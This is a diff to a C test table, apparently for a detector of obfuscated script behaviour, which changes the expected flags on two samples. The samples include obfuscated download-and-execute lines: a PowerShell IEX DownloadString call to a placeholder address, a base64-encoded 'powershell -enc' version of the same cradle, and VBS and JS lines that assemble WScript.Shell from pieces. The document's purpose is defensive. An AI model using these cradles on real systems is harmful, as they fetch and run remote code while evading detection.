@@ -104,7 +104,7 @@ static const struct {
 	  "run object", false, false },
 	{ VBS, "Execute(Chr(67)&Chr(114)&Chr(101)&Chr(97)&ChrW(116)&Chr(&H65)&Chr(79)&Chr(98)&Chr(106)"
 	  "&Chr(101)&Chr(99)&Chr(116)&\"(\")", "decode eval object", false, true },
-	{ VBS, "x = StrReverse(\"llehS.tpircSW\"): CreateObject(x).Run \"a\"", "run decode object", false, false },
+	{ VBS, "x = StrReverse(\"llehS.tpircSW\"): CreateObject(x).Run \"a\"", "run decode object", false, true },
 	{ PS1, "$a = 'Net.We'+'bCl'+'ient'; $b = New-Object $a; I`E`X $b.\"Down`load`String\"('http://192.0.2.1/')",
 	  "fetch run eval object", true, false },
 	{ PS1, "i`nvoke-ex`pression ([char]119+[char]114+[char]105+[char]116+[char]101)",
@@ -116,7 +116,7 @@ static const struct {
 	/* powershell -enc of: IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a'), UTF-16 */
 	{ BAT, "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBE"
 	  "AG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhACcAKQA=",
-	  "fetch run eval object", true, false },
+	  "fetch run eval object", true, true },
 	/* kept in variables and lists, added up later */
 	{ JS, "var q=[\"WSc\",\"rip\",\"t.S\",\"hell\",\"MSX\",\"ML2\",\".XM\",\"LHT\",\"TP\"];"
 	  "var s=new ActiveXObject(q[0]+q[1]+q[2]+q[3]);var x=new ActiveXObject(q[4]+q[5]+q[6]+q[7]+q[8]);"
